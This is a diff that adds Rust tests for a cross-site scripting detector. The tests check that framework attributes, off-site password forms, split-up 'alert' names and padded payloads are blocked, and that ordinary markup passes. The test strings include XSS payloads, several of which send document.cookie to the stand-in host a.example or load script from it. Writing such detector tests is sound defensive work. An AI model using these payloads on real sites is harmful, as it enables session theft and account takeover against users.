@@ -348,3 +348,121 @@ fn what_honest_pages_have() {
     check("<a href=\"#\" onclick=\"makePopups()\">x</a>", "event-code");
     check("<img src=x onerror=\"return validate()\">", "event-code");
 }
+
+#[test]
+fn frameworks() {
+    for text in [
+        "<div x-data x-init=\"$el.innerHTML=location.hash\">",
+        "<div x-data @click=\"fetch('//a.example/?'+document.cookie)\">",
+        "<p x-html=\"location.hash.slice(1)\"></p>",
+        "<b :onclick=\"'alert(1)'\">",
+        "<div hx-on::load=\"alert(1)\">",
+        "<div hx-get=\"//a.example/x\">",
+        "<div hx-post=\"/account/delete\" hx-trigger=\"load delay:1s\">",
+        "<i hx-get=/x hx-vals=\"js:{c:document.cookie}\">",
+        "<div data-ng-init=\"$eval.constructor('alert(1)')()\">",
+    ] {
+        assert!(blocks(text), "{text}: {}", kinds(text));
+        // However much stands around it.
+        let around =
+            format!("{}{text}{}", "I liked it, thank you. ".repeat(300), "<p>Really.</p>".repeat(300));
+        assert!(blocks(&around), "{text}");
+    }
+    for text in [
+        "<li v-for=\"item in items\" :key=\"item.id\" v-html=\"item.title\">",
+        "<button @click=\"count++\" x-show=\"open\" :class=\"{on: open}\">",
+        "<div hx-get=\"/orders\" hx-target=\"#list\" hx-trigger=\"click\">",
+        "<form hx-post=\"/search\" hx-trigger=\"keyup changed delay:500ms\">",
+        "<input ng-model=\"user.name\" ng-change=\"save(user)\">",
+    ] {
+        passes(text);
+    }
+}
+
+#[test]
+fn forms_of_another_site() {
+    check("<form action=https://a.example/><input name=u><input type=password name=p></form>", "form-asks");
+    check("</form><form action=\"//a.example/\">", "form-asks");
+    check("<button formaction=\"https://a.example/x\">Go on</button>", "form-asks");
+    passes("<form action=\"/login\"><input name=u><input type=password name=p></form>");
+    passes(
+        "<form action=\"https://pay.example/\"><input type=hidden name=id value=7><input type=submit></form>",
+    );
+    // A page's author embeds a newsletter's form, and no site asks for another one's password.
+    let at =
+        |text: &str| crate::detectors::testing::look(Class::Xss, Place::Form, "content", text.as_bytes()).1;
+    assert!(!at(
+        "<p>News:</p><form action=\"https://news.example/s\"><input type=email name=e><button>Go</button></form>"
+    ));
+    assert!(at("<form action=\"https://a.example/\"><input type=password name=p></form>"));
+}
+
+#[test]
+fn names_in_pieces() {
+    for text in [
+        "this['ale'+'rt'](1)",
+        "self[`al` + `ert`](1)",
+        "Reflect.get(window,'alert')(1)",
+        "top[/al/.source+/ert/.source](1)",
+    ] {
+        assert!(blocks(text), "{text}: {}", kinds(text));
+    }
+    passes("this['on' + name](event)");
+    passes("obj[\"a\"] + obj[\"b\"]");
+}
+
+/// Nothing that stands before or behind markup that runs makes it pass, in a field for text either.
+#[test]
+fn text_around_markup() {
+    let texts = [
+        "thank you, I don't mind ",
+        "- a\n- b\n\n",
+        "{\"a\": [1, \"x\"]} ",
+        "<p class=\"a\">x</p><!-- y -->",
+        "SGVsbG8gd29ybGQ",
+        "a",
+    ];
+    let payloads = [
+        "<script>alert(1)</script>",
+        "<svg onload=alert(1)>",
+        "<img src=x onerror=\"fetch('//a.example/?'+document.cookie)\">",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\">",
+        "<script src=//a.example/x.js></script>",
+    ];
+    let blocked = |place, name: &str, text: &str| {
+        crate::detectors::testing::look(Class::Xss, place, name, text.as_bytes()).1
+    };
+    for (unit, payload) in texts.iter().flat_map(|unit| payloads.map(|payload| (unit, payload))) {
+        for len in [10, 600, 20_000] {
+            let pad = unit.repeat(len / unit.len() + 1);
+            for text in [format!("{pad}{payload}"), format!("{payload}{pad}"), format!("{pad}{payload}{pad}")]
+            {
+                for (place, name) in [(Place::Query, "q"), (Place::Form, "comment"), (Place::Json, "body")] {
+                    assert!(blocked(place, name, &text), "{name}: {unit} x {len}, {payload}");
+                }
+            }
+        }
+    }
+    // Shown as code where the site made the field for text, and nowhere else.
+    let fence = "Use this:\n\n```html\n<script src=\"https://cdn.example/x.js\"></script>\n```\n";
+    assert!(!blocked(Place::Form, "comment", fence) && blocked(Place::Query, "q", fence));
+    assert!(blocked(Place::Form, "comment", "```\n<script>alert(1)</script>"));
+}
+
+#[test]
+fn fields_for_a_sites_own_scripts() {
+    let at = |name: &str, text: &str| {
+        crate::detectors::testing::look(Class::Xss, Place::Form, name, text.as_bytes()).1
+    };
+    let snippet = "<script async src=\"https://tags.example/gtag/js?id=G-1\"></script><script>window.dataLayer=window.dataLayer||[];\
+        function gtag(){dataLayer.push(arguments)}gtag('js',new Date());</script>";
+    for name in ["head_code", "custom_js", "settings[tracking_snippet]", "footerHtml", "newcontent"] {
+        assert!(!at(name, snippet), "{name}");
+        assert!(at(name, "<script>fetch('//a.example/?'+document.cookie)</script>"), "{name}");
+    }
+    assert!(at("q", snippet) && at("name", snippet));
+    // What was escaped in an element for code is shown.
+    assert!(!at("content", "<p>See</p><pre><code>&lt;script>alert(1)&lt;/script></code></pre>"));
+    assert!(at("content", "<pre><code><script>alert(1)</script></code></pre>"));
+}
